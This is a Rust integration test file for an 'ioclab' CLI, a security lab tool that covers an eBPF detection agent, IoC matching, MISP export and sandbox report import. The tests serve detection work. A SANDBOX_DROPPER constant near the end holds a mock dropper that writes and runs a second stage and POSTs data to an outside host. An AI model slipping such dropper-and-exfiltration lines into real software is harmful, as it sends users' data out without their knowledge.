//! The `ioclab` command line, run as a user would.

use std::io::Write;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use serde_json::Value;

mod common;
use common::{in_ci, ioclab, misp_serve, run, Reaped};

fn is_root() -> bool {
    // SAFETY: no preconditions.
    unsafe { libc::geteuid() == 0 }
}

/// Live tests need root: outside CI they skip with a reason, in CI they fail.
fn require_root() -> bool {
    if is_root() {
        return true;
    }
    assert!(!in_ci(), "CI=true but not root: the agent tests cannot run");
    eprintln!("SKIPPED (not in CI): needs root to load eBPF programs");
    false
}

const EXECVE_LOG: &str = r#"{"data":{"ancestors":"/usr/lib/systemd/systemd|/usr/bin/bash","parent_command_line":"bash","parent_exe":"/usr/bin/bash","command_line":"curl why.kunai.rocks","exe":{"path":"/usr/bin/curl","md5":"","sha1":"","sha256":"","sha512":"","size":0,"error":null}},"info":{"event":{"source":"kunai","id":1,"name":"execve"}}}"#;
const DNS_LOG: &str = r#"{"data":{"ancestors":"/usr/bin/bash","command_line":"dig why.kunai.rocks","exe":{"path":"/usr/bin/dig"},"query":"why.kunai.rocks","query_type":"A","response":["kunai-project.github.io","185.199.108.153"],"dns_server":{"ip":"127.0.0.53","port":53,"public":false,"is_v6":false}},"info":{"event":{"source":"kunai","id":61,"name":"dns_query"}}}"#;

#[test]
fn help_teaches_the_commands() {
    let (code, out, _) = run(&["--help"]);
    assert_eq!(code, 0);
    for word in ["agent", "replay", "ioc", "Examples"] {
        assert!(out.contains(word), "--help lacks {word}: {out}");
    }
    let (code, out, _) = run(&["agent", "--help"]);
    assert_eq!(code, 0);
    for word in ["--iocs", "--output", "--min-severity", "--config", "SIGHUP", "root"] {
        assert!(out.contains(word), "agent --help lacks {word}: {out}");
    }
}

#[test]
fn config_dump_and_event_list() {
    let (code, out, _) = run(&["agent", "config", "--dump"]);
    assert_eq!(code, 0);
    for key in ["events:", "execve:", "enable: true", "scanner:", "min_severity:", "output:", "iocs:"] {
        assert!(out.contains(key), "dump lacks {key}: {out}");
    }
    // the dump is a valid config
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("c.yaml");
    std::fs::write(&p, out.replace("enable: true", "enable: false")).unwrap();
    let (code, out, err) = run(&["agent", "config", "--list-events", "-c", p.to_str().unwrap()]);
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("execve") && out.contains("false") && out.contains("1101"), "{out}");

    std::fs::write(&p, "events:\n  execve:\n    enable: perhaps\n").unwrap();
    let (code, _, err) = run(&["agent", "config", "--dump", "-c", p.to_str().unwrap()]);
    assert_eq!(code, 1);
    assert!(err.contains("c.yaml") && err.contains("line 3"), "error names file and line: {err}");
}

#[test]
fn ioc_check_lists_every_bad_line() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("iocs.json");
    std::fs::write(
        &p,
        "{\"uuid\":\"1\",\"source\":\"s\",\"value\":\"why.kunai.rocks\",\"severity\":4}\n\
         {\"uuid\":\"2\",\"source\":\"s\",\"value\":\"http://x y\",\"severity\":4}\n\
         {oops\n\
         {\"uuid\":\"4\",\"source\":\"s\",\"value\":\"10.0.0.1\",\"severity\":4}\n",
    )
    .unwrap();
    let (code, out, err) = run(&["ioc", "check", p.to_str().unwrap()]);
    assert_eq!(code, 1, "bad lines give a non-zero exit");
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines.len(), 2, "{out}");
    assert!(lines[0].starts_with(&format!("{}:2: ", p.display())), "{out}");
    assert!(lines[1].starts_with(&format!("{}:3: ", p.display())), "{out}");
    assert!(err.contains("2 IoCs ok"), "{err}");

    std::fs::write(&p, "{\"uuid\":\"1\",\"source\":\"s\",\"value\":\"kunai.rocks\",\"severity\":4}\n").unwrap();
    let (code, out, _) = run(&["ioc", "check", p.to_str().unwrap()]);
    assert_eq!(code, 0);
    assert!(out.is_empty());

    // a value that could never match is a bad line; a repeated IoC a warning
    let line = "{\"uuid\":\"1\",\"source\":\"s\",\"value\":\"/usr/bin//sleep\",\"severity\":4}\n";
    std::fs::write(&p, format!("{line}{line}{{\"value\":\"127.000.066.081\",\"severity\":4}}\n")).unwrap();
    let (code, out, err) = run(&["ioc", "check", p.to_str().unwrap()]);
    assert_eq!(code, 1);
    assert!(out.starts_with(&format!("{}:3: ", p.display())) && out.contains("leading zeros"), "{out}");
    assert!(err.contains(&format!("warning: {}:2: ", p.display())), "{err}");
    assert!(err.contains("1 IoCs ok, 1 bad lines, 1 duplicates"), "{err}");
    let (code, _, err) = run(&["ioc", "check", "/nonexistent/iocs.json"]);
    assert_eq!(code, 1);
    assert!(err.contains("/nonexistent/iocs.json"), "{err}");
}

#[test]
fn replay_matches_recorded_logs_plain_and_gzip() {
    let dir = tempfile::tempdir().unwrap();
    let iocs = dir.path().join("iocs.json");
    std::fs::write(&iocs, "{\"uuid\":\"1\",\"source\":\"misp\",\"value\":\"kunai.rocks\",\"severity\":4}\n").unwrap();
    let log = dir.path().join("events.json");
    std::fs::write(&log, format!("{EXECVE_LOG}\n{DNS_LOG}\nnot json\n")).unwrap();
    let gz = dir.path().join("copy.json");
    std::fs::write(&gz, format!("{DNS_LOG}\n")).unwrap();
    assert!(Command::new("gzip").arg(&gz).status().unwrap().success());
    let gz = dir.path().join("copy.json.gz");

    let (code, out, err) = run(&["replay", "-i", iocs.to_str().unwrap(), log.to_str().unwrap(), gz.to_str().unwrap()]);
    assert_eq!(code, 0, "{err}");
    let events: Vec<Value> = out.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(events.len(), 2, "the dns_query twice, not the execve: {out}");
    for e in &events {
        assert_eq!(e["info"]["event"]["name"], "dns_query");
        assert_eq!(e["detection"]["iocs"], serde_json::json!(["kunai.rocks"]));
        assert_eq!(e["detection"]["severity"], 4);
    }
    assert!(err.contains(&format!("{}:3:", log.display())), "bad line reported with place: {err}");

    let (_, out, _) = run(&["replay", "-i", iocs.to_str().unwrap(), "-s", "5", log.to_str().unwrap()]);
    assert!(out.is_empty(), "severity 4 < 5");
    let (code, _, err) = run(&["replay", "-i", iocs.to_str().unwrap(), "/nonexistent.json"]);
    assert_eq!(code, 1);
    assert!(err.contains("/nonexistent.json"), "{err}");
}

#[test]
fn agent_without_privileges_fails_with_one_line() {
    if !is_root() {
        // already unprivileged: the plain command shows the message
        let (code, _, err) = run(&["agent"]);
        assert_eq!(code, 1);
        assert!(err.contains("CAP_BPF"), "{err}");
        return;
    }
    let out = Command::new("setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups", "--inh-caps=-all", "--bounding-set=-all"])
        .arg(env!("CARGO_BIN_EXE_ioclab"))
        .arg("agent")
        .output()
        .expect("setpriv (util-linux)");
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    let lines: Vec<&str> = err.lines().filter(|l| !l.trim().is_empty()).collect();
    assert_eq!(lines.len(), 1, "one line: {err}");
    assert!(
        lines[0].contains("missing capability CAP_BPF") || lines[0].contains("missing capability CAP_PERFMON"),
        "{err}"
    );
}

fn wait_file(path: &Path, pred: impl Fn(&str) -> bool, what: &str) -> String {
    // generous: on a busy machine the agent may take long to load its programs
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        let s = std::fs::read_to_string(path).unwrap_or_default();
        if pred(&s) {
            return s;
        }
        assert!(Instant::now() < deadline, "{what} never appeared in {}: {s}", path.display());
        std::thread::sleep(Duration::from_millis(50));
    }
}

fn signal(pid: u32, sig: i32) {
    // SAFETY: plain kill(2) on our own child.
    assert_eq!(unsafe { libc::kill(pid as i32, sig) }, 0);
}

#[test]
fn agent_writes_detections_to_a_file_reloads_on_sighup_and_flushes_on_sigterm() {
    if !require_root() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let script = dir.path().join("evil.sh");
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::write(&script, "#!/bin/sh\nexit 0\n").unwrap();
        std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let iocs = dir.path().join("iocs.json");
    std::fs::write(&iocs, "{\"uuid\":\"1\",\"source\":\"t\",\"value\":\"nothing.example\",\"severity\":3}\n").unwrap();
    let out = dir.path().join("events.json");
    let mut agent = Reaped(
        ioclab()
            .args(["agent", "-c", &config_no_hashing(dir.path()), "-i", iocs.to_str().unwrap()])
            .args(["-o", out.to_str().unwrap(), "--stats"])
            .stderr(Stdio::piped())
            .spawn()
            .unwrap(),
    );
    wait_file(&out, |s| s.contains("\"start\""), "the start event");

    // add the script's path as an IoC and tell the agent
    let mut f = std::fs::OpenOptions::new().append(true).open(&iocs).unwrap();
    writeln!(f, "{{\"uuid\":\"2\",\"source\":\"t\",\"value\":\"{}\",\"severity\":6}}", script.display()).unwrap();
    drop(f);
    signal(agent.id(), libc::SIGHUP);
    let deadline = Instant::now() + Duration::from_secs(20);
    while !std::fs::read_to_string(&out).unwrap_or_default().contains("\"detection\"") {
        assert!(Command::new(&script).status().unwrap().success());
        assert!(Instant::now() < deadline, "no detection after SIGHUP");
        std::thread::sleep(Duration::from_millis(100));
    }

    wait_file(&out, |s| s.contains("\"ioc_reload\""), "the reload event");

    // a download cut short, then an HTML error page: refused, the IoCs stay
    let good = std::fs::read_to_string(&iocs).unwrap();
    for (n, bad) in
        [format!("{good}{{\"uuid\":\"3\",\"val"), "<html>502 Bad Gateway</html>\n".into()].iter().enumerate()
    {
        std::fs::write(&iocs, bad).unwrap();
        signal(agent.id(), libc::SIGHUP);
        wait_file(&out, |s| s.matches("IoC reload refused").count() == n + 1, "the refused reload's error event");
    }
    let before = std::fs::read_to_string(&out).unwrap().matches("\"detection\"").count();
    assert!(Command::new(&script).status().unwrap().success());
    wait_file(&out, |s| s.matches("\"detection\"").count() > before, "a detection with the IoCs kept");

    signal(agent.id(), libc::SIGTERM);
    let status = agent.wait().unwrap();
    assert!(status.success(), "SIGTERM is a clean stop");
    let mut stderr = String::new();
    std::io::Read::read_to_string(agent.stderr.as_mut().unwrap(), &mut stderr).unwrap();
    let stats: Value = serde_json::from_str(stderr.lines().last().unwrap()).unwrap_or_else(|e| panic!("{e}: {stderr}"));
    assert_eq!(stats["lost"], 0);

    let text = std::fs::read_to_string(&out).unwrap();
    let events: Vec<Value> = text.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(events[0]["info"]["event"]["name"], "start");
    let name = |e: &Value| e["info"]["event"]["name"].as_str().unwrap().to_string();
    let reloads: Vec<&Value> = events.iter().filter(|e| name(e) == "ioc_reload").collect();
    assert_eq!(reloads.len(), 1, "one reload applied");
    assert_eq!(reloads[0]["data"]["iocs"], 2);
    let refused: Vec<&Value> = events.iter().filter(|e| name(e) == "error").collect();
    assert_eq!(refused.len(), 2, "two reloads refused");
    assert!(refused.iter().all(|e| e["data"]["code"] == 3));
    let det: Vec<&Value> = events.iter().filter(|e| !e["detection"].is_null()).collect();
    assert!(!det.is_empty());
    assert!(det.iter().all(|e| e["detection"]["iocs"][0] == script.to_str().unwrap()));
    assert_eq!(events.len(), det.len() + 4, "with IoCs only matches (and the agent's own events) are written");
}

/// Stderr of a child, collected by a thread as it comes.
fn collect_stderr(child: &mut std::process::Child) -> std::sync::Arc<std::sync::Mutex<String>> {
    use std::io::BufRead;
    let text = std::sync::Arc::new(std::sync::Mutex::new(String::new()));
    let (t, err) = (text.clone(), child.stderr.take().unwrap());
    std::thread::spawn(move || {
        for line in std::io::BufReader::new(err).lines().map_while(Result::ok) {
            let mut t = t.lock().unwrap();
            t.push_str(&line);
            t.push('\n');
        }
    });
    text
}

/// Waits (up to 60 s: the agent may be starting) for the child to exit.
fn wait_exit(child: &mut std::process::Child, what: &str) -> std::process::ExitStatus {
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        if let Some(status) = child.try_wait().unwrap() {
            return status;
        }
        assert!(Instant::now() < deadline, "{what}");
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// A config file without file hashing, for tests about the output: events
/// must not wait behind the hashing of the big new binaries a busy build
/// machine makes.
fn config_no_hashing(dir: &Path) -> String {
    let p = dir.join("agent.yaml");
    std::fs::write(&p, "max_hash_size: 0\n").unwrap();
    p.to_str().unwrap().to_string()
}

/// Runs /bin/true `n` times: each run is a few events for an agent with no IoC.
fn run_true(n: usize) {
    for _ in 0..n {
        assert!(Command::new("/bin/true").status().unwrap().success());
    }
}

/// Runs /bin/true (events) until `path` holds `needle` (up to 30 s).
fn run_true_until(path: &Path, needle: &str, what: &str) {
    let deadline = Instant::now() + Duration::from_secs(30);
    while !std::fs::read_to_string(path).is_ok_and(|s| s.contains(needle)) {
        assert!(Instant::now() < deadline, "no {what} in {}", path.display());
        run_true(1);
        std::thread::sleep(Duration::from_millis(100));
    }
}

#[test]
fn agent_stops_when_the_reader_of_its_output_goes_away() {
    use std::io::BufRead;
    if !require_root() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let config = config_no_hashing(dir.path());
    let mut agent =
        Reaped(ioclab().args(["agent", "-c", &config]).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap());
    let stderr = collect_stderr(&mut agent);
    // `ioclab agent | head -1`: one line read, then the pipe's reader is gone
    let mut reader = std::io::BufReader::new(agent.stdout.take().unwrap());
    let mut first = String::new();
    reader.read_line(&mut first).unwrap();
    assert!(first.contains("\"start\""), "{first}");
    drop(reader);
    let status = wait_exit(&mut agent, "the agent kept running with its reader gone");
    assert!(status.success(), "a clean stop: {status:?}");
    let err = stderr.lock().unwrap().clone();
    assert!(err.contains("broken pipe"), "says why it stopped: {err}");
    assert!(err.matches("cannot write events").count() <= 1, "not one error per event: {err}");
}

#[test]
fn a_deleted_output_file_is_created_again_and_sighup_reopens_it() {
    if !require_root() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("events.json");
    let config = config_no_hashing(dir.path());
    let mut agent = Reaped(
        ioclab().args(["agent", "-c", &config, "-o", out.to_str().unwrap()]).stderr(Stdio::null()).spawn().unwrap(),
    );
    wait_file(&out, |s| s.contains("\"start\""), "the start event");

    std::fs::remove_file(&out).unwrap();
    run_true_until(&out, "\"execve\"", "a new file after the old one was deleted");

    // logrotate: the file moves, SIGHUP says so
    let rotated = dir.path().join("events.json.1");
    std::fs::rename(&out, &rotated).unwrap();
    signal(agent.id(), libc::SIGHUP);
    run_true_until(&out, "\"execve\"", "a new file after SIGHUP");
    signal(agent.id(), libc::SIGTERM);
    assert!(wait_exit(&mut agent, "SIGTERM").success());
    for f in [&rotated, &out] {
        for line in std::fs::read_to_string(f).unwrap().lines() {
            serde_json::from_str::<Value>(line).unwrap_or_else(|e| panic!("{}: {e}: {line}", f.display()));
        }
    }
}

#[test]
fn events_a_full_disk_drops_are_counted_and_reported_when_space_is_back() {
    if !require_root() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let mnt = dir.path().join("small");
    std::fs::create_dir(&mnt).unwrap();
    // a small tmpfs in a mount namespace of the agent's own (it goes away
    // with the agent); the filler below takes what the first events leave,
    // and gives it back later: room for the agent's 64 KB buffer and more
    let mut agent = Reaped(
        Command::new("unshare")
            .args(["--mount", "--propagation", "private", "sh", "-c"])
            .arg(format!(
                "mount -t tmpfs -o size=2m ioclab-test {m} && exec {bin} agent -c {c} -o {m}/events.json --stats",
                m = mnt.display(),
                c = config_no_hashing(dir.path()),
                bin = env!("CARGO_BIN_EXE_ioclab")
            ))
            .stderr(Stdio::piped())
            .spawn()
            .expect("unshare (util-linux)"),
    );
    let stderr = collect_stderr(&mut agent);
    // the agent's files, seen through its own mount namespace
    let inside =
        |name: &str| Path::new(&format!("/proc/{}/root", agent.id())).join(mnt.strip_prefix("/").unwrap()).join(name);
    let out = inside("events.json");
    wait_file(&out, |s| s.contains("\"start\""), "the start event");

    // fill the disk
    let filler = inside("filler");
    let mut f = std::fs::File::create(&filler).unwrap();
    while f.write_all(&[0u8; 4096]).is_ok() {}
    drop(f);
    assert!(std::fs::metadata(&filler).unwrap().len() > 512 * 1024, "the filler holds the space to give back");
    // events until the agent has had to drop some
    let deadline = Instant::now() + Duration::from_secs(60);
    while !stderr.lock().unwrap().contains("dropping events") {
        assert!(Instant::now() < deadline, "the agent never dropped events: {}", stderr.lock().unwrap());
        run_true(20);
    }
    std::fs::remove_file(&filler).unwrap();
    run_true_until(&out, "\"event_loss\"", "an event_loss once space was back");
    let text = std::fs::read_to_string(&out).unwrap();
    signal(agent.id(), libc::SIGTERM);
    assert!(wait_exit(&mut agent, "SIGTERM").success());

    let events: Vec<Value> =
        text.lines().map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}"))).collect();
    let loss = events.iter().find(|e| e["info"]["event"]["name"] == "event_loss").unwrap();
    let reported = loss["data"]["lost"].as_u64().unwrap();
    assert!(reported > 0, "{loss}");
    assert!(loss["data"]["read"].as_u64().unwrap() >= reported, "{loss}");
    let err = stderr.lock().unwrap().clone();
    let stats: Value = serde_json::from_str(err.lines().last().unwrap()).unwrap_or_else(|e| panic!("{e}: {err}"));
    assert!(stats["lost"].as_u64().unwrap() >= reported, "the exit summary counts them: {stats}");
    assert!(stats["output_lost"].as_u64().unwrap() >= reported, "{stats}");
    assert!(err.matches("cannot write events").count() <= 2, "write errors are rate-limited: {err}");
}

/// A key made by `ioclab misp keys create` (extra arguments: role, org) in the store `db`.
fn misp_key(db: &Path, email: &str, extra: &[&str]) -> String {
    let mut args = vec!["misp", "keys", "create", "--email", email, "--db", db.to_str().unwrap()];
    args.extend_from_slice(extra);
    let (code, key, err) = run(&args);
    assert_eq!(code, 0, "{err}");
    let key = key.trim().to_string();
    assert_eq!(key.len(), 40, "the key alone on stdout: {key:?}");
    key
}

/// POSTs JSON to the store with curl; the answer's body (the request must succeed).
fn misp_post(url: &str, key: &str, path: &str, body: &str) -> String {
    let out = Command::new("curl")
        .args(["-sS", "-f", "-H", &format!("Authorization: {key}"), "-H", "Content-Type: application/json", "-d", body])
        .arg(format!("{url}{path}"))
        .output()
        .expect("curl (installed by scripts/setup.sh)");
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(out.status.success(), "{path}: {text} {}", String::from_utf8_lossy(&out.stderr));
    text
}

/// misp-to-kunai's config.toml for the store at `url`.
fn export_config(dir: &Path, url: &str, key: &str) -> std::path::PathBuf {
    let cfg = dir.join("config.toml");
    std::fs::write(
        &cfg,
        format!("[misp]\nname = \"lab-misp\"\nurl = \"{url}\"\nkey = \"{key}\"\nssl = false\nenable = true\n"),
    )
    .unwrap();
    cfg
}

/// Every type the export takes, through `ioclab misp serve` and `ioclab misp
/// export`: composite types were lost when the store split list filters on `|`.
#[test]
fn misp_export_takes_every_exported_type_from_the_embedded_store() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("misp.db");
    let key = misp_key(&db, "trainer@lab.example", &["--role", "publisher"]);
    let (_server, url) = misp_serve(&db);
    let (md5, sha1, sha256, sha512) = ("1".repeat(32), "2".repeat(40), "3".repeat(64), "4".repeat(128));
    // (MISP type, value, the IoC lines it gives: type and value)
    type Case = (&'static str, String, Vec<(&'static str, String)>);
    let cases: Vec<Case> = vec![
        ("md5", md5.clone(), vec![("md5", md5.clone())]),
        ("sha1", sha1.clone(), vec![("sha1", sha1.clone())]),
        ("sha256", sha256.clone(), vec![("sha256", sha256.clone())]),
        ("sha512", sha512.clone(), vec![("sha512", sha512.clone())]),
        ("domain", "plain.example".into(), vec![("domain", "plain.example".into())]),
        ("hostname", "host.plain.example".into(), vec![("hostname", "host.plain.example".into())]),
        ("ip-dst", "192.0.2.10".into(), vec![("ip-dst", "192.0.2.10".into())]),
        ("ip-src", "192.0.2.11".into(), vec![("ip-src", "192.0.2.11".into())]),
        ("filename|md5", format!("a.exe|{md5}"), vec![("md5", md5.clone())]),
        ("filename|sha1", format!("b.exe|{sha1}"), vec![("sha1", sha1.clone())]),
        ("filename|sha256", format!("c.exe|{sha256}"), vec![("sha256", sha256.clone())]),
        ("filename|sha512", format!("d.exe|{sha512}"), vec![("sha512", sha512.clone())]),
        (
            "domain|ip",
            "pair.example|192.0.2.12".into(),
            vec![("domain", "pair.example".into()), ("ip-dst", "192.0.2.12".into())],
        ),
        ("ip-dst|port", "192.0.2.13|4444".into(), vec![("ip-dst", "192.0.2.13".into())]),
        ("ip-src|port", "192.0.2.14|5555".into(), vec![("ip-src", "192.0.2.14".into())]),
        ("url", "https://url.example:8443/gate.php".into(), vec![("domain", "url.example".into())]),
        ("uri", "http://192.0.2.15/x".into(), vec![("ip-dst", "192.0.2.15".into())]),
    ];
    let mut attributes: Vec<Value> = cases
        .iter()
        .enumerate()
        .map(|(i, (t, v, _))| serde_json::json!({"uuid": format!("00000000-0000-4000-8000-{i:012}"), "type": t, "value": v, "to_ids": true}))
        .collect();
    // without the IDS flag: left out
    attributes.push(serde_json::json!({"type": "domain", "value": "not-ids.example", "to_ids": false}));
    // a path is an object's `text` attribute with the relation `path`
    let event = serde_json::json!({"Event": {"info": "every type", "published": true, "Attribute": attributes,
        "Object": [{"name": "file", "Attribute": [{"uuid": "00000000-0000-4000-8000-999999999999",
            "type": "text", "object_relation": "path", "value": "/tmp/dropper.sh", "to_ids": true}]}]}});
    misp_post(&url, &key, "/events/add", &event.to_string());

    let cfg = export_config(dir.path(), &url, &key);
    let out = dir.path().join("iocs.json");
    let (code, _, err) =
        run(&["misp", "export", "-c", cfg.to_str().unwrap(), "-o", out.to_str().unwrap(), "--no-warninglists"]);
    assert_eq!(code, 0, "{err}");
    let got: std::collections::BTreeSet<(String, String, String)> = std::fs::read_to_string(&out)
        .unwrap()
        .lines()
        .map(|l| {
            let v: Value = serde_json::from_str(l).unwrap();
            let s = |k: &str| v[k].as_str().unwrap().to_string();
            (s("uuid"), s("type"), s("value"))
        })
        .collect();
    let mut want: std::collections::BTreeSet<(String, String, String)> = cases
        .iter()
        .enumerate()
        .flat_map(|(i, (_, _, lines))| {
            lines.iter().map(move |(k, v)| (format!("00000000-0000-4000-8000-{i:012}"), k.to_string(), v.clone()))
        })
        .collect();
    want.insert(("00000000-0000-4000-8000-999999999999".into(), "path".into(), "/tmp/dropper.sh".into()));
    assert_eq!(got, want, "one line per matchable part of every exported type: {err}");
}

/// The product's path end to end: an event in the embedded MISP, `ioclab misp
/// export --reload-agent`, a running agent, and a detection when the sample runs.
#[test]
fn misp_event_to_agent_detection() {
    if !require_root() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("misp.db");
    let key = misp_key(&db, "trainer@lab.example", &["--role", "publisher"]);
    let (server, url) = misp_serve(&db);

    // the sample, and its hash as an IDS attribute of a published event
    let sample = dir.path().join("sample.sh");
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::write(&sample, "#!/bin/sh\necho dropped > /dev/null\n").unwrap();
        std::fs::set_permissions(&sample, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let sha = String::from_utf8(Command::new("sha256sum").arg(&sample).output().unwrap().stdout).unwrap();
    let sha = sha.split_whitespace().next().unwrap().to_string();
    let event = format!(
        r#"{{"Event": {{"info": "E2E sample", "published": true, "threat_level_id": 1, "Attribute": [{{"type": "sha256", "value": "{sha}", "to_ids": true}}]}}}}"#
    );
    misp_post(&url, &key, "/events/add", &event);

    let iocs = dir.path().join("iocs.json");
    std::fs::write(&iocs, "{\"uuid\":\"0\",\"source\":\"t\",\"value\":\"nothing.example\",\"severity\":3}\n").unwrap();
    let events = dir.path().join("events.json");
    let mut agent = Reaped(
        ioclab()
            .args(["agent", "-i", iocs.to_str().unwrap(), "-o", events.to_str().unwrap()])
            .stderr(Stdio::null())
            .spawn()
            .unwrap(),
    );
    wait_file(&events, |s| s.contains("\"start\""), "the agent's start event");

    let cfg = export_config(dir.path(), &url, &key);
    let (code, _, err) =
        run(&["misp", "export", "-c", cfg.to_str().unwrap(), "-o", iocs.to_str().unwrap(), "--reload-agent"]);
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("1 new IoCs"), "{err}");
    assert!(!err.contains("asked 0 running"), "the agent was told to reload: {err}");
    let lines = std::fs::read_to_string(&iocs).unwrap();
    assert!(lines.contains(&sha) && lines.contains("nothing.example"), "appended to the existing file: {lines}");

    let deadline = Instant::now() + Duration::from_secs(20);
    let detection = loop {
        assert!(Command::new(&sample).status().unwrap().success());
        let text = std::fs::read_to_string(&events).unwrap_or_default();
        if let Some(l) = text.lines().find(|l| l.contains("\"detection\"")) {
            break serde_json::from_str::<Value>(l).unwrap();
        }
        assert!(Instant::now() < deadline, "no detection after the export: {text}");
        std::thread::sleep(Duration::from_millis(100));
    };
    assert_eq!(detection["info"]["event"]["name"], "execve_script");
    assert_eq!(detection["data"]["exe"]["sha256"], sha);
    assert_eq!(detection["detection"]["iocs"][0], sha);
    assert_eq!(detection["detection"]["severity"], 10, "misp-to-kunai's severity for a sha256");

    signal(agent.id(), libc::SIGTERM);
    assert!(agent.wait().unwrap().success());
    drop(server);
}

#[test]
fn sandbox_help_teaches_its_commands() {
    let (code, out, _) = run(&["sandbox", "--help"]);
    assert_eq!(code, 0);
    for word in ["run", "serve", "submit", "status", "report", "import", "Cuckoo", "CAPE"] {
        assert!(out.contains(word), "sandbox --help lacks {word}: {out}");
    }
    for (sub, words) in [
        ("run", &["--timeout", "--output", "--root", "Examples", "not a VM"][..]),
        ("serve", &["--listen", "--db", "--storage", "--no-auth", "--workers", "Bearer", "Examples"]),
        ("submit", &["--wait", "--url", "--token", "--backend", "cape", "--poll", "--max-wait", "Examples"]),
        ("import", &["--no-store", "--storage", "--config", "[processing.misp]", "to-misp --task", "Examples"]),
        ("report", &["--all", "Examples"]),
    ] {
        let (code, out, _) = run(&["sandbox", sub, "--help"]);
        assert_eq!(code, 0);
        for w in words {
            assert!(out.contains(w), "sandbox {sub} --help lacks {w}: {out}");
        }
    }
    // a client error names the server and says what went wrong
    let (code, _, err) = run(&["sandbox", "status", "1", "--url", "http://127.0.0.1:9", "--token", "x"]);
    assert_ne!(code, 0);
    assert!(err.contains("http://127.0.0.1:9/tasks/view/1"), "{err}");
    // CAPE's paths: under /apiv2/, with their trailing slash
    let (code, _, err) =
        run(&["sandbox", "status", "1", "--backend", "cape", "--url", "http://127.0.0.1:9", "--token", "x"]);
    assert_ne!(code, 0);
    assert!(err.contains("http://127.0.0.1:9/apiv2/tasks/view/1/"), "{err}");
}

fn sandbox_fixture(name: &str) -> std::path::PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("sandbox/tests/fixtures").join(name)
}

/// `sandbox import` of a CAPE report: looked up in the embedded MISP (served
/// by `ioclab misp serve`), stored as a task, summarised with its matches.
#[test]
fn sandbox_import_looks_a_cape_report_up_in_misp_and_keeps_it() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("misp.db");
    let key = misp_key(&db, "sandbox@lab.example", &["--role", "user"]);
    let (_server, url) = misp_serve(&db);
    let event = r#"{"info": "AgentTesla wave", "date": "2025-11-01", "threat_level_id": 2, "Attribute": [
        {"type": "filename|md5", "value": "invoice.exe|ab2c4563c7c42dc830026d67a5e76ea6", "to_ids": true},
        {"type": "domain", "value": "c2.example", "to_ids": true},
        {"type": "ip-dst", "value": "198.51.100.9", "to_ids": true}]}"#;
    misp_post(&url, &key, "/events/add", event);
    let cfg = dir.path().join("sandbox.toml");
    std::fs::write(
        &cfg,
        format!("[processing.misp]\nenabled = true\nurl = \"{url}\"\napikey = \"{key}\"\nioc_blacklist = \"198.51.100.9\"\n"),
    )
    .unwrap();
    let storage = dir.path().join("storage");
    let report = sandbox_fixture("cape-report.json");
    let (code, out, err) = run(&[
        "sandbox",
        "import",
        report.to_str().unwrap(),
        "-c",
        cfg.to_str().unwrap(),
        "--storage",
        storage.to_str().unwrap(),
    ]);
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("in 2 requests (1 on ioc_blacklist, 0 past maxioc): 1 events matched"), "{err}");
    assert!(out.contains("known to MISP (1 events):"), "{out}");
    assert!(
        out.contains("event 1 (2025-11-01, medium) AgentTesla wave: ab2c4563c7c42dc830026d67a5e76ea6, c2.example"),
        "{out}"
    );
    assert!(out.contains(&format!("{url}/events/view/1")), "{out}");
    assert!(out.contains("task 1: `ioclab sandbox report 1`"), "{out}");
    let stored = ioclab_sandbox::Report::from_file(&storage.join("analyses/1/reports/report.json")).unwrap();
    assert_eq!((stored.info.id, stored.misp.len()), (1, 1));
    assert_eq!(stored.misp[0].iocs, ["ab2c4563c7c42dc830026d67a5e76ea6", "c2.example"]);

    // --no-store keeps nothing; a MISP that refuses the key is a note, not a failure
    std::fs::write(
        &cfg,
        format!("[processing.misp]\nenabled = true\nurl = \"{url}\"\napikey = \"{}\"\n", "x".repeat(40)),
    )
    .unwrap();
    let (code, out, err) =
        run(&["sandbox", "import", report.to_str().unwrap(), "-c", cfg.to_str().unwrap(), "--no-store"]);
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("MISP lookup failed: ") && out.contains("authentication failed"), "{out}");
    assert!(out.contains(&format!("report: {}", report.display())), "{out}");
    assert!(!storage.join("analyses/2").exists());

    // a report the parser cannot read: the file and the JSON path
    let bad = dir.path().join("bad.json");
    std::fs::write(&bad, r#"{"network": {"hosts": [{"hostname": "no ip"}]}}"#).unwrap();
    let (code, _, err) = run(&["sandbox", "import", bad.to_str().unwrap(), "--no-store"]);
    assert_ne!(code, 0);
    assert!(err.contains(&format!("{}: at network.hosts[0]", bad.display())), "{err}");
}

const SANDBOX_DROPPER: &str = "#!/bin/sh\n\
printf '#!/bin/sh\\necho stage2\\n' > /tmp/stage2\n\
chmod +x /tmp/stage2 && /tmp/stage2\n\
curl -s -m 5 -X POST -d hello http://why.kunai.rocks/upload\n";

/// `sandbox run`, then `serve` and its clients: one after the other (each
